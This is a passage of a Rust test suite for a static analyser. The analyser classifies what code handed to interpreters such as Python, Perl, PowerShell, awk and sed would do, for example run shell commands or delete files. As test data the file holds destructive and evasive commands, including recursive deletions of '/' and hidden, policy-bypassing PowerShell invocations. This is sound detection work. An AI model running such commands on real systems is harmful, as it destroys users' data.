            ("cd /srv; ri x", &["delete /srv/x"]),
        ],
    );
    for source in [
        "Write-Host 'Remove-Item -Recurse /'",
        "# Remove-Item x\n<# del y #>",
        "Get-Process | Where-Object { $_.CPU -gt 5 } | Select-Object Name",
        "Remove-Item /x -WhatIf",
        "$x = 'Remove-Item /'; Write-Output $x",
        "$env:PATH -split ':'",
        "@'\nRemove-Item /x\n'@ | Write-Host",
    ] {
        assert_eq!(lines(Language::PowerShell, source), [""; 0], "{source}");
    }
}

#[test]
fn interpreters_are_known_by_name() {
    for (name, language) in [
        ("python", Language::Python),
        ("python3.12", Language::Python),
        ("python3.13t", Language::Python),
        ("/usr/bin/pypy3", Language::Python),
        ("perl5.36", Language::Perl),
        ("irb", Language::Ruby),
        ("nodejs", Language::JavaScript),
        ("bun", Language::JavaScript),
        ("deno", Language::JavaScript),
        ("php8.3", Language::Php),
        ("lua5.4", Language::Lua),
        ("gawk", Language::Awk),
        ("mawk", Language::Awk),
        ("gsed", Language::Sed),
        ("pwsh", Language::PowerShell),
        ("PowerShell.exe", Language::PowerShell),
        ("osascript", Language::AppleScript),
        ("gmake", Language::Make),
    ] {
        assert_eq!(Language::of(name), Some(language), "{name}");
    }
    for name in ["bash", "", "py", "perldoc", "nodemon", "cmake", "3", "t"] {
        assert_eq!(Language::of(name), None, "{name}");
    }
}

fn plain(text: &str) -> Word {
    let parts = if text.is_empty() { Vec::new() } else { vec![Part::Text(text.to_owned())] };
    Word { parts, span: 0..0 }
}

fn invocation(language: Language, args: &[&str]) -> String {
    let args: Vec<Word> = args.iter().map(|arg| plain(arg)).collect();
    let Invocation { code, in_place, operands } = code_of(language, &args);
    let code = match code {
        Code::Text(text) => format!("text {}", word(&text)),
        Code::File(file) => format!("file {}", word(&file)),
        Code::Stdin => "stdin".to_owned(),
        Code::Module(module) => format!("module {}", word(&module)),
        Code::None => "none".to_owned(),
    };
    let in_place = if in_place { " in place" } else { "" };
    format!("{code}{in_place} [{}]", words(&operands))
}

#[test]
fn command_lines() {
    let table: &[(Language, &[&str], &str)] = &[
        (Language::Python, &["-c", "X", "a"], "text X [a]"),
        (Language::Python, &["-Bc", "X"], "text X []"),
        (Language::Python, &["-cX"], "text X []"),
        (Language::Python, &["-W", "d", "-Wd", "-I", "-c", "X", "-c"], "text X [-c]"),
        (Language::Python, &["-m", "http.server", "8000"], "module http.server [8000]"),
        (Language::Python, &["-mjson.tool"], "module json.tool []"),
        (Language::Python, &["x.py", "-c", "y"], "file x.py [-c | y]"),
        (Language::Python, &["-"], "stdin []"),
        (Language::Python, &["-u", "-", "a"], "stdin [a]"),
        (Language::Python, &[], "stdin []"),
        (Language::Python, &["--version"], "none []"),
        (Language::Python, &["-V"], "none []"),
        (Language::Perl, &["-pi", "-e", "X", "a", "b"], "text X in place [a | b]"),
        (Language::Perl, &["-i.bak", "-pe", "X", "a"], "text X in place [a]"),
        (Language::Perl, &["-pie", "X", "a"], "file X in place [a]"),
        (Language::Perl, &["-lne", "X"], "text X []"),
        (Language::Perl, &["-0777", "-ne", "X"], "text X []"),
        (Language::Perl, &["-0777pe", "X"], "text X []"),
        (Language::Perl, &["-F:", "-lane", "X", "f"], "text X [f]"),
        (Language::Perl, &["-MFile::Path", "-e", "X", "-e", "Y"], "text X\nY []"),
        (Language::Perl, &["-Mx;Y", "-e", "X"], "text use x;Y;\nX []"),
        (Language::Perl, &["-wnl", "-e", "X", "--", "f"], "text X [f]"),
        (Language::Perl, &["-v"], "none []"),
        (Language::Ruby, &["-rsocket", "-e", "X"], "text X []"),
        (Language::Ruby, &["-i.bak", "-pe", "X", "f"], "text X in place [f]"),
        (Language::Ruby, &["-r", "json", "x.rb"], "file x.rb []"),
        (Language::JavaScript, &["-e", "X"], "text X []"),
        (Language::JavaScript, &["-p", "X"], "text X []"),
        (Language::JavaScript, &["-pe", "X", "a"], "text X [a]"),
        (Language::JavaScript, &["--eval=X"], "text X []"),
        (Language::JavaScript, &["--input-type=module", "--eval", "X"], "text X []"),
        (Language::JavaScript, &["-r", "x", "y.js", "-e"], "file y.js [-e]"),
        (Language::JavaScript, &["eval", "X"], "text X []"),
        (Language::JavaScript, &["eval", "--ext=ts", "X"], "text X []"),
        (Language::JavaScript, &["run", "-A", "x.ts"], "file x.ts []"),
        (Language::JavaScript, &["--version"], "none []"),
        (Language::Php, &["-r", "X"], "text X []"),
        (Language::Php, &["-d", "a=b", "-f", "x.php"], "file x.php []"),
        (Language::Php, &["-E", "X"], "text X []"),
        (Language::Lua, &["-e", "X"], "text X []"),
        (Language::Lua, &["-l", "m", "x.lua"], "file x.lua []"),
        (Language::Awk, &["-F,", "X", "f"], "text X [f]"),
        (Language::Awk, &["-F", ",", "-v", "a=b", "X"], "text BEGIN { a = \"b\" }\nX []"),
        (Language::Awk, &["-f", "x.awk", "f"], "file x.awk [f]"),
        (Language::Awk, &["-i", "inplace", "X", "f"], "text X in place [f]"),
        (Language::Sed, &["-i", "X", "f"], "text X in place [f]"),
        (Language::Sed, &["-i", "", "X", "f"], "text X in place [f]"),
        (Language::Sed, &["-i.bak", "-e", "X", "-e", "Y", "f"], "text X\nY in place [f]"),
        (Language::Sed, &["--in-place=.b", "-nE", "X", "f"], "text X in place [f]"),
        (Language::Sed, &["--expr=X", "f"], "text X [f]"),
        (Language::Sed, &["-f", "x.sed", "f"], "file x.sed [f]"),
        (Language::Sed, &["-n", "X", "f"], "text X [f]"),
        (Language::PowerShell, &["-c", "X", "y"], "text X y []"),
        (Language::PowerShell, &["-NoP", "-ep", "bypass", "-w", "hidden", "-Command", "X"], "text X []"),
        (Language::PowerShell, &["-enc", "bABzAA=="], "text ls []"),
        (Language::PowerShell, &["-EncodedCommand", "%"], "text «?» []"),
        (Language::PowerShell, &["-File", "x.ps1", "a"], "file x.ps1 [a]"),
        (Language::PowerShell, &["-Command", "-"], "stdin []"),
        (Language::PowerShell, &["X", "y"], "text X y []"),
        (Language::AppleScript, &["-e", "X", "-e", "Y"], "text X\nY []"),
        (Language::AppleScript, &["-l", "JavaScript", "-e", "X"], "text X []"),
        (Language::Make, &["-f", "-"], "stdin []"),
        (Language::Make, &["-C", "d", "-j4", "all", "X=y"], "file Makefile [all | X=y]"),
        (Language::Make, &["--eval=X", "all"], "text X [all]"),
    ];
    for (language, args, expected) in table {
        assert_eq!(invocation(*language, args), *expected, "{language:?} {args:?}");
    }
}

#[test]
fn a_variable_of_awk_reaches_its_program() {
    let args: Vec<Word> = ["-v", "c=ls -l", "BEGIN { system(c) }"].iter().map(|arg| plain(arg)).collect();
    let Code::Text(text) = code_of(Language::Awk, &args).code else { panic!("no text") };
    assert_eq!(lines(Language::Awk, &text.constant().unwrap()), ["shell ls -l"]);
}

#[test]
fn a_word_that_is_unknown_stays_so() {
    let unknown = Unknown { why: Why::Computed, empty: true, splits: false, among: Among::Anything };
    let glued = Word { parts: vec![Part::Text("-c".to_owned()), Part::Unknown(unknown)], span: 0..0 };
    let Code::Text(text) = code_of(Language::Python, &[glued]).code else { panic!("no text") };
    assert!(text.is_unknown());
}

const ALL: [Language; 11] = [
    Language::Python,
    Language::Perl,
    Language::Ruby,
    Language::JavaScript,
    Language::Php,
    Language::Lua,
    Language::Awk,
    Language::Sed,
    Language::PowerShell,
    Language::AppleScript,
    Language::Make,
];

#[test]
fn a_text_that_is_too_long_is_unknown() {
    for language in ALL {
        let text = " ".repeat(MAX_CODE + 1);
        assert_eq!(lines(language, &text), ["evaluate unknown"], "{language:?}");
    }
}

/// In a thread with the stack of a small one, and not for long.
fn quickly(language: Language, text: String) -> Vec<String> {
    let start = Instant::now();
    let thread = std::thread::Builder::new().stack_size(2 * 1024 * 1024);
    let shown: String = text.chars().take(40).collect();
    let lines = thread.spawn(move || lines(language, &text)).unwrap().join().unwrap();
    assert!(start.elapsed() < Duration::from_secs(10), "{language:?} {shown} {:?}", start.elapsed());
    lines
}

#[test]
fn nesting_and_repetition_are_bounded() {
    for unit in [
        "(",
        "[",
        "{",
        "f(",
        "a.b(",
        "\"",
        "'",
        "`",
        "#{",
        "\"#{",
        "${",
        "`${",
        "f\"{",
        "{$",
        "$(",
        "\"$(",
        "@{[",
        "/",
        "/[",
        "<<X\n",
        "<<<X\n",
        "%w[",
        "q(",
        "m{",
        "s{a}{",
        "lambda x:",
        "(x)=>",
        "x=>",
        "function(){",
        "->(x){",
        "a?",
        "a=",
        "a+",
        "a.",
        "a::b",
        "x=[x,x];",
        "x=x+x;",
        "x=[x];",
        "x+='a';",
        "x=\"#{x}#{x}\"\n",
        "exec('exec(\"",
        "eval(",
        "-x ",
        "\\",
        "<",
        "<?php ?>",
        "<!--",
        "[[",
        "--[[",
        "/*",
        "=begin\n",
        "@'\n",
        "if a then ",
        "x|",
        "|y| ",
        "{ |x| ",
        "do |x| ",
        "for x in ",
        "def f(a=",
        "$(shell ",
        "$a",
        "A=$(A)$(A)\n",
        "s/a/b/e;",
        "1e x\n",
        "f(x)\n",
        "def f(x): return [x]\nf(f(1))\n",
        "set x to x & x\n",
        "$x=$x+$x;",
        "ri x;",
        "[a]",
        "'a','b',",
        "print > ",
        "a|getline;",
        "é",
        "\u{0}",
    ] {
        let text: String = unit.repeat(MAX_CODE / 8 / unit.len());
        for language in ALL {
            quickly(language, text.clone());
        }
    }
}

#[test]
fn what_is_too_deep_is_not_silently_harmless() {
    let deep = format!("{}os.system('ls'){}", "(".repeat(500), ")".repeat(500));
    assert_eq!(lines(Language::Python, &deep), ["evaluate unknown"]);
    let blocks = format!("{}eval(x){}", "(function(){".repeat(100), "})".repeat(100));
    assert_eq!(lines(Language::JavaScript, &blocks), ["evaluate unknown"]);
    let functions = format!("{}require('fs').unlinkSync('/x'){}", "function(){".repeat(100), "}".repeat(100));
    assert_eq!(lines(Language::JavaScript, &functions), ["evaluate unknown"]);
    let blocks = format!("{}del /x{}", "if ($a) { ".repeat(100), "}".repeat(100));
    assert!(lines(Language::PowerShell, &blocks).contains(&"evaluate unknown".to_owned()));
    let unclosed = "x = '''os.system('ls')";
    assert_eq!(lines(Language::Python, unclosed), ["evaluate unknown"]);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn any_text_is_read(text in any::<String>()) {
        for language in ALL {
            acts(language, &text);
        }
    }

    /// Texts that look like programs: pieces that mean something, in any order.
    #[test]
    fn any_program_is_read(pieces in prop::collection::vec(prop::sample::select(PIECES.to_vec()), 0..40)) {
        let text = pieces.concat();
        for language in ALL {
            for act in acts(language, &text) {
                prop_assert!(text.get(act.span.clone()).is_some(), "{:?} {} {:?}", language, text, act);
            }
        }
    }

    /// A harmless statement before or after takes nothing away.
    #[test]
    fn more_statements_take_nothing_away(before in 0..HARMLESS.len(), after in 0..HARMLESS.len(), which in 0..ACTING.len()) {
        let (language, text, expected) = ACTING[which];
        let text = format!("{}\n{text}\n{}\n", HARMLESS[before], HARMLESS[after]);
        prop_assert!(lines(language, &text).contains(&expected.to_owned()), "{text}");
    }

    #[test]
    fn any_command_line_is_read(args in prop::collection::vec("-{0,2}[a-zA-Z0-9=./ ]{0,6}", 0..6)) {
        let args: Vec<Word> = args.iter().map(|arg| plain(arg)).collect();
        for language in ALL {
            code_of(language, &args);
        }
    }
}

const PIECES: &[&str] = &[
    "os.system",
    "(",
    ")",
    "'ls'",
    "\"l#{x}s\"",
    "`ls`",
    "x",
    " = ",
    "\n",
    ";",
    "import os",
    "for x in ",
    "[",
    "]",
    "{",
    "}",
    ".",
    "::",
    "->",
    "=>",
    ",",
    "+",
    "$x",
    "@x",
    "%x",
    "|",
    "|x|",
    "do ",
    "end",
    "def f(x):",
    "lambda x: ",
    "function",
    "require('fs')",
    ".rmSync",
    "s/a/b/e",
    "qx{ls}",
    "<<X\n",
    "X\n",
    "f\"{",
    "}\"",
    "${",
    "'''",
    "/",
    "\\",
    "eval ",
    "exec",
    "unlink",
    "glob('/*')",
    "Remove-Item ",
    "-r ",
    "~",
    "*",
    "é",
    "#",
    "//",
    "/*",
    "*/",
    "--",
    "\t",
    ":",
    "?",
    "&",
    "<",
    ">",
    "print ",
    "system",
    "getline ",
    "\"",
    "'",
    "@'",
    "$(",
    "set x to ",
    "do shell script ",
    "1",
    "0x",
    "e ",
    "w x",
];

const HARMLESS: &[&str] = &["", "a = 1", "print(1)", "b = 'x'", "c = [1, 2]", "d = a"];

const ACTING: &[(Language, &str, &str)] = &[
    (Language::Python, "import os; os.system('ls')", "shell ls"),
    (Language::Python, "for p in Path('/x').iterdir(): p.unlink()", "delete /x/«*»"),
    (Language::Ruby, "Dir['/x/*'].each { |f| File.delete(f) }", "delete /x/«*»"),
    (Language::Ruby, "system('ls')", "shell ls"),
    (Language::JavaScript, "require('fs').rmSync('/x', {recursive: true})", "delete -r /x"),
    (Language::Lua, "os.execute('ls')", "shell ls"),
];
